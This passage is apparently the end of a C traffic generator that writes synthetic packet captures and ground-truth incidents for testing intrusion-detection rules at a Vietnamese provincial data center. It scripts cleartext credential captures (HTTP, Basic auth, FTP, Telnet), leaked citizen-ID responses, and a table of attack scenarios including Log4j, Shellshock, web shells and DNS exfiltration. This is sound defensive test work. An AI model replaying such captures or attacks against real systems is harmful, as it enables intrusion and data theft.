      "nguoi_yeu_cau=Tran+Van+Hung&cccd_nguoi_yeu_cau=008092004321&quan_he=cha&sdt=%2B84978123456",
      "200 OK",
      { 9100501, 9100506 } },
};
static const seq_arg ARG_DL_CITIZEN2 = { DL_CITIZEN2, 1, 3, 1, S_DVC, 1, 30000, 120000, NULL };

/* Logins over plain HTTP: password= on the services portal, mat_khau= on the police portal */
static const hreq DL_LOGIN[] = {
    { "POST",
      "/dang-nhap",
      NULL,
      "Referer: http://dichvucong.tuyenquang.gov.vn/dang-nhap\r\n",
      "application/x-www-form-urlencoded",
      "username=nguyenvana86&password=Lan%401986&remember=1",
      "200 OK",
      { 9100510 } },
};
static const seq_arg ARG_DL_LOGIN = { DL_LOGIN, 1, 5, 1, S_DVC, 1, 5000, 40000, NULL };
static const hreq DL_MATKHAU[] = {
    { "POST",
      "/tai-khoan/dang-nhap",
      NULL,
      NULL,
      "application/x-www-form-urlencoded",
      "ten_dang_nhap=tranthib&mat_khau=Tq%2312345&ma_xac_nhan=7dk2",
      "200 OK",
      { 9100511 } },
};
static const seq_arg ARG_DL_MATKHAU = { DL_MATKHAU, 1, 4, 1, S_CONGAN, 1, 3000, 30000, NULL };

/* An officer of an agency on the document exchange: HTTP Basic, internal, port 8000 */
static const hreq DL_BASIC[] = {
    { "GET",
      "/vanban/den?trang=1",
      NULL,
      "Authorization: Basic dmFudGh1X3NvdGM6VHFAMjAyNSFzb3Rj\r\n",
      NULL,
      NULL,
      "200 OK",
      { 9100509 } },
    { "GET",
      "/vanban/chi-tiet?id=25113",
      NULL,
      "Authorization: Basic dmFudGh1X3NvdGM6VHFAMjAyNSFzb3Rj\r\n",
      NULL,
      NULL,
      "200 OK",
      { 9100509 } },
};
static const seq_arg ARG_DL_BASIC = { DL_BASIC, 2, 2, 2, S_VANBAN, 3, 30000, 200000, NULL };
static const seq_arg ARG_DL_BASIC2 = { DL_BASIC, 2, 1, 1, S_VANBAN, 3, 10000, 60000, NULL };

/* Portal answers that carry citizens' ID numbers (to the client asking) */
typedef struct leak_resp {
    const char *path, *ctype, *body;
    uint32_t sid;
} leak_resp;

static const leak_resp DL_RESP[] = {
    { "/api/cong-dan/tra-cuu?maHoSo=000.00.25.H57-251121-0345", "application/json; charset=utf-8",
      "{\"maHoSo\":\"000.00.25.H57-251121-0345\",\"hoTen\":\"Ho\u00e0ng V\u0103n "
      "Nam\",\"cccd\":\"008090002468\","
      "\"trangThai\":\"\u0110\u00e3 ti\u1ebfp nh\u1eadn\"}",
      9100502 },
    { "/api/v1/nguoi-nop?id=88214", "application/json",
      "{\"id\":88214,\"full_name\":\"Ly Thi "
      "Mai\",\"citizen_id\":\"008195007531\",\"status\":\"approved\"}",
      9100503 },
    { "/tra-cuu-ho-so/chi-tiet?ma=000.00.25.H57-251121-0346", "text/html; charset=utf-8",
      "<div class=\"ho-so\"><p>Người nộp: Ma Văn Sơn</p><p>Số căn cước: 008088003579</p>"
      "<p>Trạng thái: Đang xử lý</p></div>",
      9100504 },
};

static int64_t step_leak_resp(gen *g, scen *s)
{
    const site *st = &SITES[S_DVC];
    if (s->step == 0) {
        s->atk = vn_client_ip(&g->r);
        s->tgt = site_ip(st);
        s->rtt = (uint32_t)between(&g->r, 10 * MS, 40 * MS);
    }
    const leak_resp *l = &DL_RESP[s->n % 3];
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, st->port, 0, s->rtt);
    size_t n = http_get(g, st, l->path, UAS[3], "/tra-cuu-ho-so", 0);
    tcp_send(g, &c, 1, g->text, n);
    g->now_us += between(&g->r, 5 * MS, 60 * MS);
    size_t bl = strlen(l->body);
    memcpy(g->body, l->body, bl);
    n = http_response(g, st, "200 OK", l->ctype, bl, 0);
    tcp_send(g, &c, 0, g->text, n);
    expect_c(g, l->sid, &c, 0);
    tcp_close(g, &c, 1);
    if (++s->n >= 6)
        return -1;
    return (int64_t)between(&g->r, 5 * SEC, 60 * SEC);
}

/* Agencies' clerks uploading to the FTP exchange: the password goes in clear. */
static int64_t step_ftp_agency(gen *g, scen *s)
{
    static const char *const cmds[][2] = {
        { "USER vanthu_soyte\r\n", "331 Please specify the password.\r\n" },
        { "PASS Soyte@2025\r\n", "230 Login successful.\r\n" },
        { "SYST\r\n", "215 UNIX Type: L8\r\n" },
        { "TYPE I\r\n", "200 Switching to Binary mode.\r\n" },
        { "PASV\r\n", "227 Entering Passive Mode (10,20,4,21,156,71).\r\n" },
        { "STOR bao-cao-thang-11-2025.pdf\r\n", "150 Ok to send data.\r\n" },
        { NULL, "226 Transfer complete.\r\n" },
        { "QUIT\r\n", "221 Goodbye.\r\n" },
    };
    if (s->step == 0) {
        s->atk = ip4(10, 21, 4, (uint8_t)between(&g->r, 20, 90));
        s->tgt = ip4(10, 20, 4, 21);
    }
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, 21, 210, (uint32_t)between(&g->r, 1 * MS, 3 * MS));
    static const char banner[] = "220 (vsFTPd 3.0.5)\r\n";
    tcp_send(g, &c, 0, banner, sizeof banner - 1);
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        if (cmds[i][0]) {
            tcp_send(g, &c, 1, cmds[i][0], strlen(cmds[i][0]));
            if (!strncmp(cmds[i][0], "PASS ", 5))
                expect_c(g, 9100512, &c, 1);
        }
        g->now_us += between(&g->r, 1 * MS, i == 6 ? 900 * MS : 20 * MS);
        tcp_send(g, &c, 0, cmds[i][1], strlen(cmds[i][1]));
    }
    tcp_close(g, &c, 0);
    if (++s->n >= 3)
        return -1;
    return (int64_t)between(&g->r, 30 * SEC, 150 * SEC);
}

/* A network administrator logging into a switch over Telnet from the police's network. */
static int64_t step_telnet_admin(gen *g, scen *s)
{
    if (s->step == 0) {
        s->atk = ip4(10, 21, 3, (uint8_t)between(&g->r, 30, 60));
        s->tgt = ip4(10, 20, 6, (uint8_t)between(&g->r, 1, 4));
    }
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, 23, 210, (uint32_t)between(&g->r, 1 * MS, 3 * MS));
    static const char *const conv[][2] = {
        { NULL, "\r\nUser Access Verification\r\n\r\nUsername: " },
        { "netadmin\r\n", "Password: " },
        { "Sw!tch#Tq2025\r\n", "\r\nsw-dmz-01>" },
        { "enable\r\n", "Password: " },
        { "En@ble#Tq\r\n", "\r\nsw-dmz-01#" },
        { "show interfaces status\r\n",
          "\r\nPort      Name               Status       Vlan\r\nGi1/0/1   uplink-fw          "
          "connected    trunk\r\n"
          "Gi1/0/2   portal-web         connected    101\r\nsw-dmz-01#" },
        { "exit\r\n", NULL },
    };
    for (size_t i = 0; i < sizeof conv / sizeof conv[0]; i++) {
        if (conv[i][0]) {
            tcp_send(g, &c, 1, conv[i][0], strlen(conv[i][0]));
            g->now_us += between(&g->r, 1 * MS, 30 * MS);
        }
        if (conv[i][1]) {
            tcp_send(g, &c, 0, conv[i][1], strlen(conv[i][1]));
            if (!strcmp(conv[i][1], "Password: "))
                expect_c(g, 9100513, &c, 0);
            g->now_us += between(&g->r, 500 * MS, 4 * SEC); /* the admin types */
        }
    }
    tcp_close(g, &c, 0);
    if (++s->n >= 2)
        return -1;
    return (int64_t)between(&g->r, 60 * SEC, 200 * SEC);
}

/* ---- the round: every attack scenario, at its offset ----------------------- */

static const scen_spec SCENARIOS[] = {
    /* web.rules */
    { step_seq, 20, &ARG_WEB_SQLI },
    { step_seq, 60, &ARG_WEB_XSS },
    { step_seq, 90, &ARG_WEB_TRAV },
    { step_seq, 40, &ARG_WEB_LOG4J },
    { step_seq, 45, &ARG_WEB_LOG4J_PORTAL },
    { step_seq, 120, &ARG_WEB_LOG4J_V6 },
    { step_seq, 150, &ARG_WEB_SHELLSHOCK },
    { step_seq, 180, &ARG_WEB_SHELL },
    { step_seq, 210, &ARG_WEB_CMDI },
    { step_seq, 10, &ARG_WEB_MIRAI },
    /* scan.rules */
    { step_seq, 100, &ARG_SCAN_SQLMAP },
    { step_seq, 130, &ARG_SCAN_NIKTO },
    { step_seq, 15, &ARG_SCAN_NMAP },
    { step_seq, 200, &ARG_SCAN_ACUNETIX },
    { step_seq, 160, &ARG_SCAN_WPSCAN },
    { step_seq, 70, &ARG_SCAN_GIT },
    { step_seq, 240, &ARG_SCAN_GIT2 },
    { step_grab, 5, &ARG_SCAN_MASSCAN },
    { step_grab, 110, &ARG_SCAN_ZGRAB },
    { step_dirbuster, 50, NULL },
    /* bruteforce.rules */
    { step_ssh, 30, &ARG_BF_SSH_LIBSSH },
    { step_ssh, 190, &ARG_BF_SSH_GO },
    { step_ssh, 250, &ARG_BF_SSH_OPENSSH },
    { step_ftp_bf, 80, NULL },
    { step_rdp_bf, 140, NULL },
    { step_telnet_bf, 35, NULL },
    { step_wp_bf, 220, NULL },
    { step_basic_bf, 170, NULL },
    /* dns.rules */
    { step_tunnel, 25, &ARG_DNS_IODINE },
    { step_tunnel, 95, &ARG_DNS_DNSCAT },
    { step_tunnel, 55, &ARG_DNS_BEACON },
    { step_tunnel, 145, &ARG_DNS_EXFIL },
    { step_dns_flood, 175, NULL },
    { step_dns_any, 65, NULL },
    { step_axfr, 115, NULL },
    { step_tunnel, 135, &ARG_DNS_DNSCAT_DOM },
    /* canhgac's detectors */
    { step_portscan, 85, NULL },
    { step_sweep, 195, NULL },
    { step_slowscan, 30, NULL },
    /* dataleak.rules */
    { step_seq, 35, &ARG_DL_CITIZEN },
    { step_seq, 185, &ARG_DL_CITIZEN2 },
    { step_seq, 75, &ARG_DL_LOGIN },
    { step_seq, 125, &ARG_DL_MATKHAU },
    { step_seq, 12, &ARG_DL_BASIC },
    { step_seq, 230, &ARG_DL_BASIC2 },
    { step_leak_resp, 85, NULL },
    { step_ftp_agency, 45, NULL },
    { step_telnet_admin, 105, NULL },
    /* SCENARIOS */
};

#define NSCEN (sizeof SCENARIOS / sizeof SCENARIOS[0])

typedef struct run_cfg {
    uint64_t target_bytes; /* 0: one round */
    uint64_t gap_us;       /* mean time between benign sessions */
} run_cfg;

static void start_round(gen *g, scen *sc)
{
    for (size_t i = 0; i < NSCEN; i++) {
        memset(&sc[i], 0, sizeof sc[i]);
        if (!SCENARIOS[i].fn)
            continue;
        sc[i].fn = SCENARIOS[i].fn;
        sc[i].arg = SCENARIOS[i].arg;
        sc[i].next_us = g->now_us + SCENARIOS[i].start_s * SEC + between(&g->r, 0, 20 * SEC);
        sc[i].active = 1;
    }
}

/* Sessions start at their own times — benign ones every gap_us or so, attack
 * steps when their scenario says — and overlap; frames are staged and written
 * in time order up to the start of the next session. */
static void run(gen *g, const run_cfg *cfg)
{
    scen sc[NSCEN];
    uint64_t clock = g->now_us, round_end = 0, last_end = clock;
    uint64_t benign_next = clock + between(&g->r, 0, cfg->gap_us);
    int drain = 0; /* long enough: only detector scenarios finish */
    start_round(g, sc);
    for (;;) {
        scen *s = NULL;
        for (size_t i = 0; i < NSCEN; i++)
            if (sc[i].active && (!s || sc[i].next_us < s->next_us))
                s = &sc[i];
        /* a round ends with a minute of benign traffic after its last attack */
        if (!s && !round_end)
            round_end = (last_end > clock ? last_end : clock) + 60 * SEC;
        uint64_t t_attack = s ? s->next_us : round_end;
        if (!drain && benign_next < t_attack) {
            clock = benign_next;
            flush(g, clock);
            g->now_us = clock;
            benign_session(g);
            benign_next = clock + between(&g->r, cfg->gap_us / 4, cfg->gap_us * 7 / 4);
        } else {
            clock = t_attack;
            flush(g, clock);
            g->now_us = clock;
            if (!s) {
                if (drain || !cfg->target_bytes || g->bytes >= cfg->target_bytes)
                    break;
                start_round(g, sc);
                round_end = 0;
                continue;
            }
            int64_t d = s->fn(g, s);
            s->step++;
            last_end = g->now_us;
            if (d < 0)
                s->active = 0;
            else
                s->next_us = g->now_us + (uint64_t)d;
        }
        if (cfg->target_bytes && g->bytes >= cfg->target_bytes && !drain) {
            /* the scans and tunnels under way that canhgac's detectors count
             * run to their end: one cut short could stop right at a
             * threshold, where the detectors' sketches and the exact counts
             * here may differ; everything else stops here */
            drain = 1;
            for (size_t i = 0; i < NSCEN; i++)
                if (!sc[i].step ||
                    !(sc[i].fn == step_tunnel || sc[i].fn == step_dns_flood ||
                      sc[i].fn == step_portscan || sc[i].fn == step_sweep ||
                      sc[i].fn == step_slowscan))
                    sc[i].active = 0;
        }
    }
    flush(g, UINT64_MAX);
}

/* ---- main ----------------------------------------------------------------- */

static void usage(FILE *f)
{
    fprintf(f,
            "usage: gen_traffic -o OUT.pcap -t TRUTH.tsv [--bytes N] [--seed N]\n"
            "Writes sample traffic of the provincial data center (benign HTTP, DNS and TLS\n"
            "with an attack for every starter rule of rules/ embedded) and its ground truth.\n"
            "  -o, --output FILE   the capture (pcap, Ethernet)\n"
            "  -t, --truth FILE    the expected incidents: sid, src, dst, count (TSV)\n"
            "  -b, --bytes N       keep adding rounds of traffic until the capture is about\n"
            "                      N bytes (suffixes k, M, G); default: one round, a few MB\n"
            "  -s, --seed N        seed of the generator (default 20251124)\n"
            "  -h, --help          this help\n");
}

static int parse_u64(const char *s, uint64_t *out)
{
    char *e;
    errno = 0;
    if (!*s || *s == '-')
        return -1;
    unsigned long long v = strtoull(s, &e, 10);
    if (errno || e == s)
        return -1;
    uint64_t m = 1;
    if (*e == 'k' || *e == 'K') {
        m = 1000;
        e++;
    } else if (*e == 'M') {
        m = 1000000;
        e++;
    } else if (*e == 'G') {
        m = 1000000000;
        e++;
    }
    if (*e || v > UINT64_MAX / m)
        return -1;
    *out = (uint64_t)v * m;
    return 0;
}

int main(int argc, char **argv)
{
    static const struct option longopts[] = {
        { "output", required_argument, NULL, 'o' }, { "truth", required_argument, NULL, 't' },
        { "bytes", required_argument, NULL, 'b' },  { "seed", required_argument, NULL, 's' },
        { "help", no_argument, NULL, 'h' },         { NULL, 0, NULL, 0 },
    };
    const char *out = NULL, *truth = NULL;
    uint64_t bytes = 0, seed = 20251124;
    int c;
    while ((c = getopt_long(argc, argv, "o:t:b:s:h", longopts, NULL)) != -1) {
        switch (c) {
        case 'o': out = optarg; break;
        case 't': truth = optarg; break;
        case 'b':
            if (parse_u64(optarg, &bytes) || bytes == 0) {
                fprintf(stderr, "gen_traffic: bad --bytes '%s'\n", optarg);
                usage(stderr);
                return 2;
            }
            break;
        case 's':
            if (parse_u64(optarg, &seed)) {
                fprintf(stderr, "gen_traffic: bad --seed '%s'\n", optarg);
                usage(stderr);
                return 2;
            }
            break;
        case 'h': usage(stdout); return 0;
        default: usage(stderr); return 2;
        }
    }
    if (optind != argc || !out || !truth) {
        if (optind != argc)
            fprintf(stderr, "gen_traffic: unexpected argument '%s'\n", argv[optind]);
        else
            fprintf(stderr, "gen_traffic: -o and -t are required\n");
        usage(stderr);
        return 2;
    }

    gen *g = calloc(1, sizeof *g);
    int rc = 1;
    if (!g) {
        fprintf(stderr, "gen_traffic: out of memory\n");
        return 1;
    }
    g->th = calloc(TABLE_SIZE, sizeof *g->th);
    g->th_spare = calloc(TABLE_SIZE, sizeof *g->th_spare);
    g->inc = calloc(TABLE_SIZE, sizeof *g->inc);
    g->inc_spare = calloc(TABLE_SIZE, sizeof *g->inc_spare);
    g->det = calloc(DET_TABLE, sizeof *g->det);
    g->det_spare = calloc(DET_TABLE, sizeof *g->det_spare);
    g->seen = calloc(DET_SEEN, sizeof *g->seen);
    g->seen_spare = calloc(DET_SEEN, sizeof *g->seen_spare);
    if (!g->th || !g->th_spare || !g->inc || !g->inc_spare || !g->det || !g->det_spare ||
        !g->seen || !g->seen_spare) {
        fprintf(stderr, "gen_traffic: out of memory\n");
        goto out;
    }
    g->r.s = seed * 0x9e3779b97f4a7c15ull ^ 0x5851f42d4c957f2dull;
    if (!g->r.s)
        g->r.s = 1;
    for (int i = 0; i < 8; i++)
        rnd(&g->r);
    g->now_us = g->out_us = START_US;
    g->next_port = 32768;

    g->pd = pcap_open_dead(DLT_EN10MB, 65535);
    if (!g->pd) {
        fprintf(stderr, "gen_traffic: cannot start libpcap\n");
        goto out;
    }
    errno = 0;
    g->dump = pcap_dump_open(g->pd, out);
    if (!g->dump) {
        fprintf(stderr, "gen_traffic: cannot write %s: %s\n", out,
                errno ? strerror(errno) : pcap_geterr(g->pd));
        goto out;
    }
    g->bytes = 24; /* the file header */
    g->truth = fopen(truth, "w");
    if (!g->truth) {
        fprintf(stderr, "gen_traffic: cannot write %s: %s\n", truth, strerror(errno));
        goto out;
    }
    if (fprintf(g->truth,
                "# sid\tsrc_ip\tdest_ip\tcount: one line per incident canhgac must report "
                "(rules/, window 3600 s; count = its alerts after thresholds)\n") < 0)
        g->truth_err = 1;

    run_cfg cfg = { bytes, bytes ? 60 * MS : 3000 * MS };
    run(g, &cfg);

    for (uint32_t i = 0; i < TABLE_SIZE; i++) /* the incidents still open */
        if (g->inc[i].sid)
            truth_line(g, &g->inc[i]);
    rc = 0; /* errno: that of a failed write */
    if (pcap_dump_flush(g->dump) || ferror(pcap_dump_file(g->dump))) {
        fprintf(stderr, "gen_traffic: cannot write %s: %s\n", out, strerror(errno ? errno : EIO));
        rc = 1;
    }
    errno = 0;
    int tc = fclose(g->truth);
    g->truth = NULL;
    if (tc || g->truth_err) {
        fprintf(stderr, "gen_traffic: cannot write %s: %s\n", truth, strerror(errno ? errno : EIO));
        rc = 1;
    }
    if (!rc)
        fprintf(stderr,
                "gen_traffic: %s: %" PRIu64 " packets, %" PRIu64 " bytes, %.0f s; "
                "%s: %" PRIu64 " incidents, %" PRIu64 " alerts\n",
                out, g->packets, g->bytes, (double)(g->out_us - START_US) / SEC, truth,
                g->incidents, g->alerts);
out:
    if (g->truth)
        fclose(g->truth);
    if (g->dump)
        pcap_dump_close(g->dump);
    if (g->pd)
        pcap_close(g->pd);
    free(g->pool);
    free(g->heap);
    free(g->freel);
    free(g->th);
    free(g->th_spare);
    free(g->inc);
    free(g->inc_spare);
    free(g->det);
    free(g->det_spare);
    free(g->seen);
    free(g->seen_spare);
    free(g);
    return rc;
}
